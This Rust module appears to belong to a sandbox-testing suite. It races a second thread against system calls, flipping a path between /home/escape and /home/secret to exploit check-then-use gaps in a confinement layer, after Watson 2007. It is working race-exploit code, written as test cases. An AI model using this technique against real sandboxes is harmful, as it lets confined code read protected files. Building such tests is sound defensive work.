// SPDX-License-Identifier: GPL-2.0
//! A second thread rewrites a name while a call reads it: between the check and the use it becomes another one.

mod making;
mod reading;
mod rings;
mod sockets;
mod writing;

use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use super::case::{Case, Deed, Loot, Proof, said};
use super::stage::Stage;
use crate::sys::memory::{PAGE, map, poke_word, write};

/// `setxattrat`, newer than the C library.
const SYS_SETXATTRAT: i64 = 463;

/// How long a call is tried. Rounds are not counted: two thousand can be over before the other thread has begun.
const TIME: Duration = Duration::from_millis(400);

/// What a round brings: loot that ends the race, or nothing yet.
type Round = Result<Option<Loot>, i32>;

/// A call on the name at an address.
struct Row {
    name: &'static str,
    /// Last component of the name, which exists in both trees or in the secret one.
    leaf: &'static str,
    proof: Proof,
    attempt: fn(u64) -> Round,
}

const fn row(
    name: &'static str,
    leaf: &'static str,
    proof: Proof,
    attempt: fn(u64) -> Round,
) -> Row {
    Row {
        name,
        leaf,
        proof,
        attempt,
    }
}

const REFERENCE: &str =
    "Watson 2007, Exploiting Concurrency Vulnerabilities in System Call Wrappers (WOOT '07)";
const TRIES: &str =
    "another thread turns /home/escape into /home/secret in the name that the call reads, and back";

/// All races on arguments.
pub(super) fn cases() -> Vec<Case> {
    let mut all = Vec::new();
    for rows in [reading::ROWS, writing::ROWS, making::ROWS] {
        all.extend(rows.iter().map(case));
    }
    all.extend(rings::cases());
    all.extend(sockets::cases());
    all
}

fn case(row: &'static Row) -> Case {
    let run = |stage: &Stage| stage.confined(|| Flip::new(0, row.leaf).race(row.attempt));
    Case::new("races", row.name, REFERENCE, TRIES, row.proof, run)
}

/// A name that is `/home/escape/LEAF` and `/home/secret/LEAF` in turn: eight aligned bytes make the difference, so it is one of the two at any moment.
struct Flip {
    page: u64,
    words: [[u8; 8]; 2],
}

/// Where the name begins in its page, so that what changes is aligned; two bytes for the family of a socket address fit before it.
const START: u64 = 2;
/// Where the bytes that change lie in the page.
const WORD: u64 = 8;

impl Flip {
    /// The name, in memory that begins with `family`.
    fn new(family: u16, leaf: &str) -> Flip {
        let page = map(PAGE, libc::MAP_PRIVATE);
        let name = |tree: &str| format!("/home/{tree}/{leaf}\0........");
        let word = |tree: &str| {
            let at = (WORD - START) as usize;
            name(tree).as_bytes()[at..at + 8]
                .try_into()
                .expect("eight bytes")
        };
        write(page, &family.to_ne_bytes());
        write(page + START, name("escape").as_bytes());
        Flip {
            page,
            words: [word("escape"), word("secret")],
        }
    }

    /// Address of the name.
    fn name(&self) -> u64 {
        self.page + START
    }

    /// Makes the call until it brings something, or for the time that a race gets.
    fn race(&self, mut attempt: impl FnMut(u64) -> Round) -> Deed {
        let over = AtomicBool::new(false);
        std::thread::scope(|scope| {
            scope.spawn(|| {
                let mut turn = 0usize;
                while !over.load(Ordering::Relaxed) {
                    poke_word(self.page + WORD, self.words[turn % 2]);
                    // Now and then long enough for a whole call.
                    for _ in 0..(turn % 61) * 20 {
                        std::hint::spin_loop();
                    }
                    turn += 1;
                }
            });
            let begun = Instant::now();
            let mut result = said(format!("nothing in {TIME:?}"));
            while begun.elapsed() < TIME {
                if let Ok(Some(loot)) = attempt(self.name()) {
                    result = Ok(loot);
                    break;
                }
            }
            over.store(true, Ordering::Relaxed);
            result
        })
    }
}

/// Ends the race if the bytes are not those of the attacker's own file.
fn unless_own(deed: Deed) -> Round {
    match deed {
        Ok(Loot::Bytes(bytes)) if !bytes.is_empty() && bytes != b"own" => {
            Ok(Some(Loot::Bytes(bytes)))
        }
        Ok(Loot::Number(number)) if number != 3 => Ok(Some(Loot::Number(number))),
        _ => Ok(None),
    }
}
